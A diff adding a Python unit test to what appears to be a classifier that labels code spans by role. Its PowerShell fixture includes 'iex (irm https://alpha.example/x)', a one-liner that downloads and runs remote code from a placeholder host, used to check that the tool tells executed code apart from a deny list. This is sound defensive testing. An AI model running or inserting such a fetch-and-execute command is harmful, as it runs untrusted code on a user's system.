@@ -135,3 +135,10 @@ def test_hostile_text_takes_linear_time(kind, piece):
     began = time.perf_counter()
     CodeRoles(text, kind, Role.CODE).stance(len(text) // 2)
     assert time.perf_counter() - began < 5
+
+
+def test_a_name_speaks_of_what_is_listed_and_not_of_what_is_done():
+    text = "$block = iex (irm https://alpha.example/x)\n$block = @('bravo.example')\n"
+    roles = CodeRoles(text, "powershell", Role.CODE)
+    assert roles.stance(text.index("iex")).role is Role.CODE
+    assert roles.stance(text.index("bravo")).role is Role.DENY_LIST
